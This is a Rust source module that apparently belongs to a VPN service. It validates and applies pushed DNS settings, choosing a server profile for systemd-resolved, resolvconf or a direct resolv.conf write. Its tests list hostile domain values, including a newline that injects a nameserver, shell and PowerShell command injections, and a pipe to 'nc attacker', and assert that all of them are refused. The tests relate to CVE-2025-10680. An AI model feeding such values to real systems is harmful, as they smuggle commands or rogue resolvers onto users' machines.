//! A session's DNS settings (design §4): what the channel asked for, checked, and how each
//! backend is told.
//!
//! The channel carries DNS in pieces (servers per family, search domains, and with `--dns`
//! resolve-domains); the session keeps the sum in a [`DnsState`] and hands the whole state to
//! the backend after each change. Every name is checked before it gets near a file or a bus:
//! a domain from the channel is written into `resolv.conf` by the direct backend, so a newline
//! in it would be an injection.

use std::fmt::Write as _;
use std::net::IpAddr;

/// The DNS settings of one session.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DnsState {
    /// IPv4 servers.
    pub servers4: Vec<IpAddr>,
    /// IPv6 servers.
    pub servers6: Vec<IpAddr>,
    /// Search domains.
    pub search: Vec<String>,
    /// Split-DNS domains: only names under these go to the session's servers.
    pub routing: Vec<String>,
    /// Servers that answer on another port than 53.
    pub ports: Vec<(IpAddr, u16)>,
    /// What the servers' profile says of DNSSEC.
    pub dnssec: Dnssec,
    /// The servers speak DNS over TLS.
    pub tls: bool,
    /// The profiles of a `--dns` configuration received so far, while more are to come
    /// (openvpn's `--dns server N`; each arrives in a message of its own).
    pub pending: Vec<Profile>,
    /// Why profiles were passed over, for the log.
    pub skipped: Vec<String>,
}

/// DNSSEC, as a `--dns` server profile asks for it.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Dnssec {
    /// Not said (the resolver's own setting).
    #[default]
    Unset,
    /// `dnssec no`.
    No,
    /// `dnssec yes`.
    Yes,
    /// `dnssec optional`: validate where the servers allow it.
    Optional,
}

/// How a profile's servers are reached.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Transport {
    /// Plain DNS.
    #[default]
    Plain,
    /// DNS over TLS.
    Tls,
    /// DNS over HTTPS.
    Https,
}

/// One `--dns server N` profile.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Profile {
    /// Servers, each with its port if not 53.
    pub servers: Vec<(IpAddr, Option<u16>)>,
    /// Split-DNS domains of this profile.
    pub resolve_domains: Vec<String>,
    /// The configuration's search domains.
    pub search_domains: Vec<String>,
    /// DNSSEC.
    pub dnssec: Dnssec,
    /// Transport.
    pub transport: Transport,
}

/// What a backend can apply of a profile.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Caps {
    /// Servers on other ports than 53.
    pub ports: bool,
    /// DNS over TLS.
    pub tls: bool,
    /// DNSSEC settings per link.
    pub dnssec: bool,
}

impl Profile {
    /// Why `caps` cannot apply this profile, if it cannot.
    fn unusable(&self, caps: Caps) -> Option<&'static str> {
        if self.servers.is_empty() {
            return Some("it names no server");
        }
        match self.transport {
            Transport::Https => return Some("DNS over HTTPS is not supported"),
            Transport::Tls if !caps.tls => {
                return Some("DNS over TLS needs systemd-resolved");
            }
            _ => {}
        }
        if !caps.ports && self.servers.iter().any(|(_, p)| p.is_some_and(|p| p != 53)) {
            return Some("servers on other ports than 53 need systemd-resolved");
        }
        if !caps.dnssec && matches!(self.dnssec, Dnssec::Yes | Dnssec::Optional) {
            return Some("DNSSEC settings need systemd-resolved");
        }
        None
    }

    /// The state this profile gives.
    fn state(&self) -> DnsState {
        let mut s = DnsState {
            search: self.search_domains.clone(),
            routing: self.resolve_domains.clone(),
            dnssec: self.dnssec,
            tls: self.transport == Transport::Tls,
            ..DnsState::default()
        };
        for &(a, port) in &self.servers {
            if a.is_ipv4() {
                s.servers4.push(a);
            } else {
                s.servers6.push(a);
            }
            if let Some(p) = port.filter(|&p| p != 53) {
                s.ports.push((a, p));
            }
        }
        s
    }
}

/// Chooses, as openvpn's own `dns-updown` does, the first profile the backend can apply;
/// the others before it are named in [`DnsState::skipped`]. Fails, saying why for each, when
/// none can be applied.
pub fn choose_profile(profiles: &[Profile], caps: Caps) -> Result<DnsState, NoUsableProfile> {
    let mut skipped = Vec::new();
    for (i, p) in profiles.iter().enumerate() {
        match p.unusable(caps) {
            None => {
                let mut s = p.state();
                s.skipped = skipped;
                return Ok(s);
            }
            Some(why) => skipped.push(format!("DNS server profile {} skipped: {why}", i + 1)),
        }
    }
    Err(NoUsableProfile { skipped })
}

/// No DNS server profile could be applied by the backend: why each was skipped.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{}", if skipped.is_empty() {
    "the DNS configuration has no server profile".to_owned()
} else {
    format!("no DNS server profile can be applied ({})", skipped.join("; "))
})]
pub struct NoUsableProfile {
    /// One line per profile, in order.
    pub skipped: Vec<String>,
}

/// Longest domain name we accept.
pub const MAX_DOMAIN: usize = 253;
/// Most domains of one kind we keep.
pub const MAX_DOMAINS: usize = 32;

/// Why a DNS value was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DnsError {
    /// A domain that is not a plain DNS name.
    #[error("{0:?} is not a DNS domain name")]
    BadDomain(String),
    /// A server address that does not parse.
    #[error("{0:?} is not an IP address")]
    BadAddress(String),
    /// Too many of something.
    #[error("more than {MAX_DOMAINS} domains")]
    TooMany,
}

/// Checks one domain: letters, digits, `-` and `_` in dot-separated labels of 1..=63 bytes;
/// one leading dot (NRPT style) is dropped; a trailing dot is kept off.
pub fn domain(raw: &str) -> Result<String, DnsError> {
    let bad = || DnsError::BadDomain(raw.chars().take(80).collect());
    let d = raw.strip_prefix('.').unwrap_or(raw);
    let d = d.strip_suffix('.').unwrap_or(d);
    if d.is_empty() || d.len() > MAX_DOMAIN {
        return Err(bad());
    }
    let label_ok = |l: &str| {
        (1..=63).contains(&l.len())
            && l.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
            && !l.starts_with('-')
    };
    if d.split('.').all(label_ok) {
        Ok(d.to_ascii_lowercase())
    } else {
        Err(bad())
    }
}

/// Checks a comma- (or space-) separated list of domains.
pub fn domain_list(raw: &str) -> Result<Vec<String>, DnsError> {
    let list = raw
        .split([',', ' '])
        .filter(|s| !s.is_empty())
        .map(domain)
        .collect::<Result<Vec<_>, _>>()?;
    if list.len() > MAX_DOMAINS {
        return Err(DnsError::TooMany);
    }
    Ok(list)
}

/// Parses a textual server address (NRPT messages carry text).
pub fn server(raw: &str) -> Result<IpAddr, DnsError> {
    raw.trim()
        .parse()
        .map_err(|_| DnsError::BadAddress(raw.chars().take(60).collect()))
}

impl DnsState {
    /// Whether there is nothing to configure.
    pub fn is_empty(&self) -> bool {
        self.servers4.is_empty()
            && self.servers6.is_empty()
            && self.search.is_empty()
            && self.routing.is_empty()
    }

    /// Whether the session has DNS servers of its own.
    pub fn has_servers(&self) -> bool {
        !self.servers4.is_empty() || !self.servers6.is_empty()
    }

    /// The port of server `a`.
    pub fn port(&self, a: IpAddr) -> u16 {
        self.ports
            .iter()
            .find(|(s, _)| *s == a)
            .map_or(53, |&(_, p)| p)
    }

    /// Every server, IPv4 first.
    pub fn servers(&self) -> impl Iterator<Item = &IpAddr> {
        self.servers4.iter().chain(&self.servers6)
    }

    /// Whether the link should take queries for every name (no split DNS).
    pub fn default_route(&self) -> bool {
        self.routing.is_empty()
    }

    /// Link domains for systemd-resolved: search domains, then routing-only domains.
    pub fn resolved_domains(&self) -> Vec<(String, bool)> {
        self.search
            .iter()
            .map(|d| (d.clone(), false))
            .chain(self.routing.iter().map(|d| (d.clone(), true)))
            .collect()
    }

    /// The text given to `resolvconf -a` or written as `resolv.conf`. Routing-only domains
    /// cannot be expressed there; their servers then answer for every name.
    pub fn resolv_conf(&self, origin: &str) -> String {
        let mut s = format!("# {origin}\n");
        for a in self.servers() {
            let _ = writeln!(s, "nameserver {a}");
        }
        if !self.search.is_empty() {
            let _ = writeln!(s, "search {}", self.search.join(" "));
        }
        s
    }
}

/// Which backend applies DNS settings.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Backend {
    /// systemd-resolved over D-Bus.
    Resolved,
    /// `resolvconf -a/-d`.
    Resolvconf,
    /// Rewrite `resolv.conf`, restore it afterwards.
    Direct,
    /// Leave DNS alone.
    None,
}

impl Backend {
    /// What this backend can apply of a `--dns` profile.
    pub fn caps(self) -> Caps {
        let resolved = self == Backend::Resolved;
        Caps {
            ports: resolved,
            tls: resolved,
            dnssec: resolved,
        }
    }
}

/// What the detector found on the machine.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Found {
    /// `org.freedesktop.resolve1` has an owner on the system bus.
    pub resolved: bool,
    /// A `resolvconf` program is installed.
    pub resolvconf: bool,
}

/// The backend to use: the configured one, or with `None` (auto) the first available of
/// resolved, resolvconf, direct (design §4).
pub fn choose(configured: Option<Backend>, found: Found) -> Backend {
    match configured {
        Some(b) => b,
        None if found.resolved => Backend::Resolved,
        None if found.resolvconf => Backend::Resolvconf,
        None => Backend::Direct,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn domains_are_plain_names_only() {
        assert_eq!(domain(".Corp.Example").unwrap(), "corp.example");
        assert_eq!(domain("a_b-1.x.").unwrap(), "a_b-1.x");
        for bad in [
            "",
            ".",
            "corp\nnameserver 6.6.6.6",
            "a..b",
            "-a.b",
            "a b",
            "ä.example",
            &"a".repeat(64),
            &format!("{}.x", "a.".repeat(130)),
        ] {
            assert!(domain(bad).is_err(), "{bad:?}");
        }
        assert_eq!(
            domain_list("a.example,b.example c.example").unwrap(),
            ["a.example", "b.example", "c.example"]
        );
        assert!(domain_list(&"x,".repeat(33)).is_err());
    }

    /// CVE-2025-10680: a pushed domain reached a PowerShell command line. Domains here are a
    /// positive list of name characters, and no backend ever passes them through a shell
    /// (resolved over D-Bus, resolvconf with an argv, resolv.conf written directly).
    #[test]
    fn cve_2025_10680_pushed_domain_with_shell_syntax_is_refused() {
        for hostile in [
            "a';Restart-Computer'",
            "x.example;touch /tmp/pwned",
            "$(touch /tmp/pwned).example",
            "`id`.example",
            "corp.example|nc attacker 1",
        ] {
            assert!(domain(hostile).is_err(), "{hostile}");
            assert!(
                domain_list(&format!("ok.example,{hostile}")).is_err(),
                "{hostile}"
            );
        }
    }

    #[test]
    fn rendering_and_default_route() {
        let s = DnsState {
            servers4: vec!["10.8.0.53".parse().unwrap()],
            servers6: vec!["fd00:8::53".parse().unwrap()],
            search: vec!["corp.example".into()],
            routing: vec!["lab.example".into()],
            ..DnsState::default()
        };
        assert_eq!(
            s.resolv_conf("openvpnserv tun1"),
            "# openvpnserv tun1\nnameserver 10.8.0.53\nnameserver fd00:8::53\nsearch corp.example\n"
        );
        assert!(!s.default_route());
        assert_eq!(
            s.resolved_domains(),
            [("corp.example".into(), false), ("lab.example".into(), true)]
        );
    }

    #[test]
    fn auto_prefers_resolved_then_resolvconf_then_direct() {
        let f = |resolved, resolvconf| Found {
            resolved,
            resolvconf,
        };
        assert_eq!(choose(None, f(true, true)), Backend::Resolved);
        assert_eq!(choose(None, f(false, true)), Backend::Resolvconf);
        assert_eq!(choose(None, f(false, false)), Backend::Direct);
        assert_eq!(
            choose(Some(Backend::Direct), f(true, true)),
            Backend::Direct
        );
    }

    fn profile(transport: Transport, port: Option<u16>, dnssec: Dnssec) -> Profile {
        Profile {
            servers: vec![("10.8.0.53".parse().unwrap(), port)],
            resolve_domains: vec!["lab.example".into()],
            search_domains: vec!["corp.example".into()],
            dnssec,
            transport,
        }
    }

    /// The choice openvpn's own dns-updown makes: resolved takes the first profile that is
    /// not DNS over HTTPS; resolvconf and resolv.conf the first with plain DNS on port 53
    /// and no DNSSEC setting.
    #[test]
    fn each_backend_gets_the_first_profile_it_can_apply() {
        let profiles = [
            profile(Transport::Https, None, Dnssec::Unset),
            profile(Transport::Tls, Some(853), Dnssec::Yes),
            profile(Transport::Plain, Some(53), Dnssec::Unset),
        ];
        let resolved = choose_profile(&profiles, Backend::Resolved.caps()).unwrap();
        assert!(resolved.tls);
        assert_eq!(resolved.dnssec, Dnssec::Yes);
        assert_eq!(resolved.port("10.8.0.53".parse().unwrap()), 853);
        assert_eq!(
            resolved.skipped,
            ["DNS server profile 1 skipped: DNS over HTTPS is not supported"]
        );
        let plain = choose_profile(&profiles, Backend::Resolvconf.caps()).unwrap();
        assert!(!plain.tls);
        assert!(plain.ports.is_empty());
        assert_eq!(plain.skipped.len(), 2);
        assert_eq!(plain.routing, ["lab.example"]);
        let err = choose_profile(&profiles[..2], Backend::Direct.caps())
            .unwrap_err()
            .to_string();
        assert!(err.contains("DNS over TLS needs systemd-resolved"), "{err}");
        assert!(choose_profile(&[], Backend::Resolved.caps()).is_err());
    }
}
